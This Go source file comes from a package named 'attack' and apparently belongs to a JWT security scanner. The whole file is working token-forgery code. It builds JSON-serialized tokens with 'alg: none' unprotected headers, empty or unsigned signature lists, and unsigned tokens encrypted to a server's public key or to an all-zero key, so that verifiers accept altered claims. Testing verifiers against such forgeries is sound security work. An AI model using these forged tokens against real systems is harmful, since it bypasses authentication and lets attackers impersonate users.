package attack

import (
	"github.com/go-jose/go-jose/v4"
)

func wrapAttacks() []Attack {
	return []Attack{
		{
			Name: "json-form", Title: "The genuine token in JSON serialization",
			Why:   "unsigned headers, or several signatures, come with this form (CWE-347, RFC 7515 §7.2)",
			forge: jsonForms,
		},
		{
			Name: "encrypted", Title: "An encrypted token with unsigned content",
			Check: "jwt.signature-unverified",
			Why:   "anyone can encrypt to a public key: decryption is taken for proof of origin (CWE-347, RFC 8725 §3.3)",
			forge: encrypted,
		},
	}
}

func jsonForms(g *genuine) []Forged {
	altered := segment(g.altered())
	none := encode([]byte(`{"alg":"none"}`))
	form := func(o object) string { return string(compactJSON(o)) }
	return []Forged{
		{Name: "flattened", Title: "Flattened", Token: form(object{
			"protected": g.headerText, "payload": g.payloadText, "signature": g.signatureText,
		})},
		{Name: "general", Title: "General", Token: form(object{
			"payload": g.payloadText, "signatures": []object{{"protected": g.headerText, "signature": g.signatureText}},
		})},
		{Name: "unprotected", Title: "Flattened, alg none unprotected", Token: form(object{
			"header": object{"alg": "none"}, "payload": altered, "signature": "",
		}), Check: "jwt.alg-none"},
		{Name: "two-signatures", Title: "General, an unsigned signature first", Token: form(object{
			"payload": altered, "signatures": []object{
				{"protected": none, "signature": ""}, {"protected": g.headerText, "signature": g.signatureText},
			},
		}), Check: "jwt.alg-none"},
		{Name: "no-signatures", Title: "General, no signature at all", Token: form(object{
			"payload": altered, "signatures": []object{},
		}), Check: "jwt.null-signature"},
	}
}

// encrypted wraps an unsigned token for the server's own public key, or for a
// key of zeros where none is known.
func encrypted(g *genuine) []Forged {
	plain := encode([]byte(`{"alg":"none"}`)) + "." + segment(g.altered()) + "."
	var all []Forged
	pub := g.PublicKey
	if pub == nil && g.Cert != nil {
		pub = g.Cert.PublicKey
	}
	kid, _ := g.header["kid"].(string)
	for _, v := range []struct {
		name, title string
		to          jose.Recipient
	}{
		{"rsa", "An unsigned token encrypted to the RSA key", jose.Recipient{Algorithm: jose.RSA_OAEP_256, Key: pub, KeyID: kid}},
		{"ec", "An unsigned token encrypted to the EC key", jose.Recipient{Algorithm: jose.ECDH_ES, Key: pub, KeyID: kid}},
		{"zeros", "An unsigned token encrypted with a key of zeros", jose.Recipient{Algorithm: jose.DIRECT, Key: make([]byte, 32), KeyID: kid}},
	} {
		if token, ok := encrypt(plain, v.to); ok {
			all = append(all, Forged{Name: v.name, Title: v.title, Token: token})
		}
	}
	return all
}

// encrypt returns false where the key is none for the algorithm.
func encrypt(plain string, to jose.Recipient) (string, bool) {
	e, err := jose.NewEncrypter(jose.A256GCM, to, (&jose.EncrypterOptions{}).WithContentType("JWT"))
	if err != nil {
		return "", false
	}
	jwe, err := e.Encrypt([]byte(plain))
	if err != nil {
		return "", false
	}
	text, err := jwe.CompactSerialize()
	return text, err == nil
}
